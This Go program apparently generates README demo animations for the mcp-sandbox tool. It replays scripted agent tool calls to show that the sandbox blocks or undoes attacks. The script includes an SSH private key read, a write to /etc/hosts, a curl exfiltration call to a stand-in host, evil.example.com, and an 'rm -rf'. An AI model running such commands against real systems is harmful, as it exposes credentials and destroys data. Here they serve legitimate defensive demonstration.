// Command demo draws docs/demo.svg and docs/demo-staged.svg, the moving pictures of
// the README, from what real sessions answer:
//
//	go run -C bench ./demo
//
// It starts the server in a small project of its own with one allowed host, makes
// the calls of the script below, and draws each call with the text of its result.
// Only times are left out. It needs Linux, git, curl and python3; nothing is
// downloaded.
package main

import (
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"strings"
	"syscall"

	"mcp-sandbox/bench/internal/build"
	"mcp-sandbox/bench/internal/stdio"
)

func main() {
	out := flag.String("out", filepath.Join("..", "docs"), "directory of the pictures")
	binary := flag.String("binary", "", "a server that is built already")
	flag.Parse()
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	err := demo(ctx, *out, *binary)
	stop()
	if err != nil {
		fmt.Fprintln(os.Stderr, "demo:", err)
		os.Exit(1)
	}
}

// A scene is what stands on the screen together.
type scene struct {
	title string
	calls []call
}

// A call is a tool call, drawn as the tool and its main argument.
type call struct {
	tool      string
	shown     string // of the arguments
	arguments map[string]any
	// promise is what the result must hold, or the picture would not show what it
	// is for.
	promise string
	// to is the command that the last exec_command left running.
	to bool
}

// shell is what the person types outside, in the project.
func shell(line, promise string) call { return call{tool: "$", shown: line, promise: promise} }

// A picture is drawn of one session.
type picture struct {
	file, label string
	flags       []string
	prepare     string // run in the project, before
	scenes      []scene
}

var pictures = []picture{
	{"demo.svg", "Tool calls of an agent and what mcp-sandbox answers", []string{"--network", "allow", "--allow-host", "pypi.org"}, "", script},
	{"demo-staged.svg", "An agent works in a staged workspace, and a person reviews and applies what it did", []string{"--staged"},
		"git config --global user.name You; git config --global user.email you@example.com; git init -q -b main; git add .; git commit -qm 'First version'", staged},
}

var staged = []scene{
	{"The agent works on your project", []call{
		command(`sed -i s/hello/hi/ src/app.py; git commit -qam "Greet shorter"; git log --oneline`, "Greet shorter"),
	}},
	{"and nothing in it has changed", []call{
		shell("git log --oneline; cat src/app.py", "hello"),
	}},
	{"You look", []call{
		shell("mcp-sandbox review", "1 commit on main"),
	}},
	{"and apply what you like", []call{
		shell("mcp-sandbox review --apply .", "applied: 2"),
		shell("git log --oneline; git status --short; cat src/app.py", "Greet shorter"),
	}},
}

func command(line, promise string) call {
	return call{tool: "exec_command", shown: line, arguments: map[string]any{"cmd": line}, promise: promise}
}

var script = []scene{
	{"Secrets of the host are not there, the rest of it cannot be changed", []call{
		command("cat ~/.ssh/id_rsa", "No such file or directory"),
		command("echo 0.0.0.0 example.com >> /etc/hosts", "read-only"),
	}},
	{"Hosts that were not allowed cannot be reached, and the result says why", []call{
		command("curl -sS https://evil.example.com/?d=$(whoami)", "evil.example.com:443 is not allowed"),
	}},
	{"Programs live on between calls, on a real terminal", []call{
		{tool: "exec_command", shown: "python3 -q   (tty)", arguments: map[string]any{"cmd": "python3 -q", "tty": true}, promise: ">>>"},
		{tool: "write_stdin", shown: "sum(range(101))", arguments: map[string]any{"chars": "sum(range(101))\n"}, promise: "5050", to: true},
	}},
	{"What a command removed comes back", []call{
		command("rm -rf src; ls", ""),
		{tool: "snapshot_restore", shown: "latest", arguments: map[string]any{"snapshot_id": "latest"}, promise: "added"},
		command("ls src", "app.py"),
	}},
}

// An answered call has the lines of its result.
type answered struct {
	call
	lines []string
}

func demo(ctx context.Context, out, binary string) error {
	dir, err := os.MkdirTemp("", "mcp-sandbox-demo-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(dir)
	if err := os.Chmod(dir, 0o755); err != nil { // an ordinary user's session starts the binary again
		return err
	}
	given, binary := binary, filepath.Join(dir, "mcp-sandbox") // by which the person calls it
	if given == "" {
		err = build.Server(ctx, "..", binary)
	} else {
		err = os.Symlink(given, binary)
	}
	if err != nil {
		return err
	}
	for _, p := range pictures {
		home := filepath.Join(dir, p.file)
		played, err := play(ctx, binary, home, &p)
		if err != nil {
			return err
		}
		if err := os.WriteFile(filepath.Join(out, p.file), draw(p.label, p.scenes, played), 0o644); err != nil {
			return err
		}
	}
	return nil
}

// play makes all calls, in order. dir is the home of the person.
func play(ctx context.Context, binary, dir string, p *picture) ([]answered, error) {
	root := filepath.Join(dir, "project")
	if err := os.MkdirAll(filepath.Join(root, "src"), 0o755); err != nil {
		return nil, err
	}
	for name, text := range map[string]string{"README": "a project\n", "src/app.py": "print('hello')\n"} {
		if err := os.WriteFile(filepath.Join(root, name), []byte(text), 0o644); err != nil {
			return nil, err
		}
	}
	env := []string{"PATH=" + filepath.Dir(binary) + ":" + os.Getenv("PATH"), "HOME=" + dir, "TMPDIR=" + dir, "MCP_SANDBOX_STATE_DIR=" + filepath.Join(dir, "state")}
	outside := func(line string) (string, error) {
		cmd := exec.CommandContext(ctx, "bash", "-c", line)
		cmd.Dir, cmd.Env = root, env
		text, err := cmd.CombinedOutput()
		return strings.ReplaceAll(string(text), dir, "~"), err
	}
	if text, err := outside(p.prepare); err != nil {
		return nil, fmt.Errorf("%w: %s", err, text)
	}
	cmd := exec.Command(binary, append([]string{"serve", "--root", root, "--structured", "on"}, p.flags...)...)
	cmd.Env = env
	c, err := stdio.Dial(ctx, cmd)
	if err != nil {
		return nil, err
	}
	defer c.Close()
	var out []answered
	running, typesInto := 0, false
	for _, s := range p.scenes {
		for _, one := range s.calls {
			if one.tool == "$" {
				text, err := outside(one.shown)
				if err == nil && !strings.Contains(text, one.promise) {
					err = fmt.Errorf("no %q", one.promise)
				}
				if err != nil {
					return nil, fmt.Errorf("%s: %w: %s", one.shown, err, text)
				}
				out = append(out, answered{one, resultLines(text)})
				continue
			}
			typesInto = typesInto || one.to
			if one.to {
				one.arguments["session_id"] = running
			}
			r, err := c.Call(ctx, one.tool, one.arguments)
			if err != nil {
				return nil, err
			}
			if !strings.Contains(r.Text(), one.promise) {
				return nil, fmt.Errorf("%s %s: no %q in the result:\n%s", one.tool, one.shown, one.promise, r.Text())
			}
			var o struct {
				SessionID int `json:"session_id"`
			}
			if one.tool == "exec_command" && json.Unmarshal(r.Structured, &o) == nil && o.SessionID != 0 {
				running = o.SessionID
			}
			out = append(out, answered{one, resultLines(r.Text())})
		}
	}
	if typesInto && running == 0 {
		return nil, errors.New("nothing was left running to type into")
	}
	return out, nil
}

// resultLines are those of a result except its time, which no two runs share.
func resultLines(text string) (out []string) {
	for line := range strings.Lines(strings.TrimSpace(text)) {
		if line = strings.TrimRight(line, "\r\n "); line != "" && !strings.HasPrefix(line, "Wall time:") {
			out = append(out, line)
		}
	}
	return out
}
